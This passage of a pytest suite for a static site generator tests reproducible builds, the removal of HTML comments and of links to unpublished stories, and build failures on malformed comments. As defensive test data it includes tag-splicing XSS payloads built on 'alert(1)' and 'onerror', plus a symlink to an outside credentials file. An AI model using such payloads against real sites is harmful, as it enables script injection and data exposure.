        "nothing was published" in done.stderr,
    ) == (2, False, True), done.stderr


# ---- the same bytes everywhere


def copy_of(root: Path, target: Path, seed: int) -> Path:
    """The same site elsewhere, its files made in another order and at other times."""
    files = sorted(
        path
        for path in root.rglob("*")
        if path.is_file() and not {"build", ".ssg"} & set(path.relative_to(root).parts)
    )
    for number, path in enumerate(
        sorted(
            files,
            key=lambda path: str(path)[::-1] if seed % 2 else str(path),
            reverse=bool(seed & 2),
        )
    ):
        made = target / path.relative_to(root)
        made.parent.mkdir(parents=True, exist_ok=True)
        made.write_bytes(path.read_bytes())
        os.utime(made, (1_000_000_000 + 86_400 * number * seed,) * 2)
    return target


_SCRIPT = """\
import ssg.build.run, ssg.cli
ssg.build.run._PARALLEL_FROM = 1
ssg.build.run._GROUP = 3
ssg.cli.main()
"""


@pytest.mark.parametrize(
    ("seed", "jobs", "environment"),
    [
        (1, 1, {"PYTHONHASHSEED": "0", "TZ": "UTC", "LC_ALL": "C"}),
        (2, 2, {"PYTHONHASHSEED": "1", "TZ": "Pacific/Kiritimati", "LC_ALL": "C.UTF-8"}),
        (
            3,
            3,
            {
                "PYTHONHASHSEED": "2",
                "TZ": "America/St_Johns",
                "LC_ALL": "POSIX",
                "LANG": "de_DE.UTF-8",
                "HOME": "/nonexistent",
            },
        ),
    ],
    ids=["one process", "two processes", "three processes"],
)
def test_the_output_is_the_same_for_every_machine_clock_and_order_of_files(
    leaky: Site, tmp_path: Path, seed: int, jobs: int, environment: dict[str, str]
) -> None:
    root = copy_of(leaky.root, tmp_path / "a place" / f"n\u00b0{seed}", seed)
    shutil.rmtree(root / "build", ignore_errors=True)
    for extra in root.glob("open-*"):
        shutil.rmtree(extra)
    command = [
        sys.executable,
        "-c",
        _SCRIPT,
        "build",
        "-s",
        str(root),
        "--jobs",
        str(jobs),
        "--at",
        NOW.isoformat(),
        "-q",
    ]
    done = subprocess.run(
        command,
        cwd=REPOSITORY,
        env=os.environ | environment,
        capture_output=True,
        text=True,
        timeout=100,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    made = Site(root)
    assert made.files() == leaky.files()


def test_the_constants_that_these_tests_turn_are_still_there() -> None:
    assert ssg.build.run._PARALLEL_FROM > 1
    assert ssg.build.run._GROUP > 1


def test_an_embargoed_page_of_an_earlier_build_does_not_stay_when_the_record_of_it_was_deleted(
    site: MakeSite,
) -> None:
    made = site(
        f"-- content/world/live.md --\n{story('A live story')}\n-- {STORY}"
        f" --\n{story(embargo='2026-12-24T06:00:00-05:00')}"
    )
    made.build(future=True)
    before = made.files()
    shutil.rmtree(made.root / ".ssg")
    with pytest.raises(OutputError, match="no record"):
        made.build()
    assert made.files() == before
    shutil.rmtree(made.out)
    made.build()
    assert not made.has("world/2026/11/a/")


def test_a_deleted_record_does_no_harm_where_every_file_is_made_again(site: MakeSite) -> None:
    made = site(f"-- {STORY} --\n{story()}")
    made.build()
    before = made.files()
    shutil.rmtree(made.root / ".ssg")
    made.build()
    assert made.files() == before


# ---- comments, and what links to unpublished stories stand in

SECRET = "CANARY-7f3a"
LATER = (
    "-- content/world/later.md --\n---\ntitle: Later\ndate: 2027-01-01T00:00:00Z\n---\n\nLater.\n"
)
COMMENTED = {
    "a line of its own": f"Words.\n\n<!-- {SECRET} -->\n\nMore.",
    "inside a line": f"Words <!-- {SECRET} --> more.",
    "several paragraphs": f"Words.\n\n<!--\n{SECRET}\n\n{SECRET}\n-->\n\nMore.",
    "in a block": f"/// fact-box\nWords <!-- {SECRET} --> more.\n\n<!-- {SECRET} -->\n///\n\nMore.",
    "in a list": f"- Words <!-- {SECRET} -->\n- More.",
    "in a table": f"| a | b |\n|---|---|\n| Words <!-- {SECRET} --> | More. |",
    "in raw HTML": f"<div>\n<p>Words <!-- {SECRET} --></p>\n<!-- {SECRET} -->\n</div>\n\nMore.",
    "in a heading": f"## Words <!-- {SECRET} -->\n\nMore.",
    "in a footnote": f"Words[^1].\n\n[^1]: More <!-- {SECRET} -->.",
    "around a link to what is not published": (
        f'Words.\n\n<!-- {SECRET} <a href="later.md">x</a> -->\n\nMore [later](later.md).'
    ),
    "above the summary's end": f"Words.\n\n<!-- {SECRET} -->\n\n<!--more-->\n\nMore.",
    "with a processing instruction": f"Words.\n\n<?php {SECRET} ?>\n\nMore.",
    "with a script inside": f"Words.\n\n<!-- <script>{SECRET}</script> -->\n\nMore.",
}


@pytest.mark.parametrize("source", ["", "Wire"])
@pytest.mark.parametrize("place", COMMENTED)
def test_no_comment_is_published_anywhere(site: MakeSite, place: str, source: str) -> None:
    fields = {"source": source} if source else {}
    made = site(LATER + f"-- {STORY} --\n" + story(body=COMMENTED[place], **fields))
    made.write(
        "-- content/about.md --\n---\ntitle: About\n---\n\n"
        + COMMENTED[place].replace("later.md", "world/later.md")
    )
    report = made.build()
    assert report.errors == 0, made.problems()
    assert "Words" in page_of(made)
    assert "More" in page_of(made)
    assert [path for path, content in made.files().items() if SECRET.encode() in content] == []


@pytest.mark.parametrize(
    "body",
    [
        f"<!-- <!-- x --> {SECRET} -->",
        f"Words <!-- x\n\n{SECRET} --> more.",
        f"Words.\n\n<!-- <!--more--> {SECRET} -->",
        f"- Words <!-- x\n\n  {SECRET} -->",
    ],
)
@pytest.mark.parametrize("source", ["", "Wire"])
def test_a_comment_whose_words_would_be_read_is_an_error_at_its_line(
    site: MakeSite, body: str, source: str
) -> None:
    fields = {"source": source} if source else {}
    made = site(f"-- {STORY} --\n" + story(body=body, **fields))
    made.build()
    assert not made.out.exists()
    [problem] = [problem for problem in made.report.problems if problem.code == "open-comment"]
    assert problem.span is not None
    assert "<!--" in problem.excerpt


@pytest.mark.parametrize("surface", ["page", "feed"])
def test_only_the_link_to_an_unpublished_story_goes(site: MakeSite, surface: str) -> None:
    body = (
        '<!-- the mayor\'s -->\n\nFirst [one](later.md) stays.\n\nSecond <b title="a > b">two</b>'
        ' stays.\n\n<!-- council\'s -->\n\n<p title="<a href=later.md>">Third</p>\n\nA'
        " [link](about.md) and <a href=\"later.md\">four</a> <a href='b.md'>five</a>."
    )
    made = site(
        LATER
        + f"-- {STORY} --\n"
        + story(body=body)
        + "-- content/world/b.md --\n"
        + story(title="B")
    )
    made.write("-- content/world/about.md --\n" + story(title="About"))
    assert made.build().errors == 0, made.problems()
    text = made.read("world/2026/11/a/" if surface == "page" else "feed.xml")
    for words in ("First one stays.", "Third", 'title="a > b"', "four <a href="):
        assert words in text, text
    assert "2027" not in text
    assert "later/" not in text
    assert text.count(">link</a>") == text.count(">five</a>") == 1


def test_what_markdown_itself_leaves_behind_is_never_published(
    site: MakeSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = site(f"-- {STORY} --\n" + story(body="Some *words* and `code`."))
    for left in ("\x02klzzwxh:0000\x03", "\x03", "\x01L0\x04", "\x01B0\x04", "\x01/B0\x04", "\x01"):
        with monkeypatch.context() as patch:
            patch.setattr(
                "markdown.Markdown.convert", lambda self, text, left=left: f"<p>x {left}</p>"
            )
            report = made.build(destination=None)
        assert {problem.code for problem in report.problems} <= {
            "internal-error",
            "unclosed-block",
            "nested-too-deep",
        }, left
        assert [problem.path for problem in report.problems] == [STORY], left


LEAKING = {
    "code that a stray backtick opens": f"The 5` mark <!-- see `notes`, {SECRET} -->.",
    "code that is never closed": f"Text <code>x <!-- a\n\n{SECRET} -->",
    "an end of another form": f"x <!-- a --!> {SECRET} --> y",
    "a comment that ends at once": f"<!--> {SECRET} -->",
    "a fence inside": f"~~~\ncode\n\nPara. <!--\n~~~\n{SECRET}\n~~~\n-->",
    "an alt text": f"![a <!-- {SECRET} -->](x.jpg)",
    "a title": f'[a](http://x.example/ "<!-- {SECRET} -->")',
    "an attribute list": f'## Head {{: title="<!-- {SECRET} -->" }}',
    "a frame": f'<iframe src="https://x.example/"><!-- {SECRET} --></iframe>',
    "character data": f"<svg><![CDATA[<!-- {SECRET} -->]]></svg>",
    "a block's argument": f"/// fact-box | T <!-- {SECRET} -->\nwords\n///",
    "a block's option": f"/// embed | https://x.example/\n    title: T <!-- {SECRET} -->\n///",
}


@pytest.mark.parametrize("source", ["", "Wire"])
@pytest.mark.parametrize("place", LEAKING)
def test_what_looks_like_a_comment_and_is_none_stops_the_build(
    site: MakeSite, place: str, source: str
) -> None:
    fields = {"source": source} if source else {}
    made = site(f"-- {STORY} --\n" + story(body=LEAKING[place], **fields))
    made.build()
    assert "open-comment" in made.codes()
    assert not made.out.exists()


@pytest.mark.parametrize("field", ["title", "deck", "summary", "kicker"])
def test_a_comment_in_front_matter_is_an_error(site: MakeSite, field: str) -> None:
    fields = {field: f"'Words <!-- {SECRET} -->'"}
    made = site(f"-- {STORY} --\n" + story(**fields))
    made.build()
    [problem] = [problem for problem in made.report.problems if problem.code == "open-comment"]
    assert problem.excerpt.startswith(f"{field}:")


@pytest.mark.parametrize(
    "body",
    [
        "`<!-- x -->` and `<!--` are code.",
        "```html\n<!-- x -->\n<p>\n```",
        "    <!-- code -->\n\nWords.",
        "a --> b",
        "Write `-->` there.",
    ],
)
def test_code_may_show_comments(site: MakeSite, body: str) -> None:
    made = site(f"-- {STORY} --\n" + story(body=body))
    assert made.build().errors == 0, made.problems()


@pytest.mark.parametrize(
    "body",
    [
        "<div>\n<<!-- -->script>alert(1)</script>\n</div>",
        '<<a href="later.md">img src=x onerror=alert(1)></a>',
        '<p><<img src="later.md">script>alert(1)</p>',
        '<p><!<a href="later.md">-- x --></a></p>',
        '</<a href="later.md">p></a>',
        '<div>\n<<img alt="x">script>alert(1)</script>\n</div>',
    ],
)
def test_what_is_taken_out_makes_no_tag_of_what_stands_around_it(site: MakeSite, body: str) -> None:
    made = site(LATER + f"-- {STORY} --\n" + story(body=f"Words.\n\n{body}\n\nMore."))
    made.build()
    if made.out.exists():
        article = re.search(r'<div class="body">.*?</article>', page_of(made), re.S)
        text = article[0] if article else page_of(made)
        assert not re.search(r"<(script|img)\b(?![^>]*site)", text), text
        assert "<!--" not in text


def test_an_element_without_its_secret_address_keeps_the_rest(site: MakeSite) -> None:
    body = (
        '<blockquote cite="later.md">Said.</blockquote>\n\n<a id="here" href="later.md">words</a>'
        ' [see](#here)\n\n<img src="https://x.example/a.png" alt="A pier" longdesc="later.md"'
        ' srcset="later.md 2x">'
    )
    made = site(
        LATER
        + f"-- {STORY} --\n"
        + story(
            body=body, media="\n  - {src: 'https://x.example/a.png', alt: Pier, credit: Ana Ruiz}"
        )
    )
    assert made.build().errors == 0, made.problems()
    for path in ("world/2026/11/a/", "feed.xml"):
        text = made.read(path)
        assert "<blockquote>Said.</blockquote>" in text, text
        assert '<a id="here">words</a>' in text
        assert "later" not in text.lower().replace("https://ledger.example", "")


def test_a_site_yaml_that_is_a_link_out_of_the_site_shows_nothing(linked: Site) -> None:
    (linked.root.parent / "secrets/creds").write_text("token: SECRETKEY\n")
    (linked.root / "site.yaml").unlink()
    (linked.root / "site.yaml").symlink_to("../secrets/creds")
    report = linked.build(destination=None)
    assert [problem.code for problem in report.problems] == ["symlink"]
    assert not any("SECRETKEY" in repr(problem) for problem in report.problems)


@pytest.mark.parametrize(
    "value", ["99999999999999999999", "-99999999999999999999999", "0xFFFFFFFFFFFFFFFFFFFF"]
)
def test_a_number_of_many_digits_is_kept_as_it_is_written(site: MakeSite, value: str) -> None:
    body = f"/// fact-box\n    title: {value}\n\nwords\n///"
    made = site(f"-- {STORY} --\n" + story(body=body, extra=f"{{id: {value}}}"))
    report = made.build()
    assert not report.is_our_fault, made.problems()
    assert report.errors == 0, made.problems()
    assert value in page_of(made)
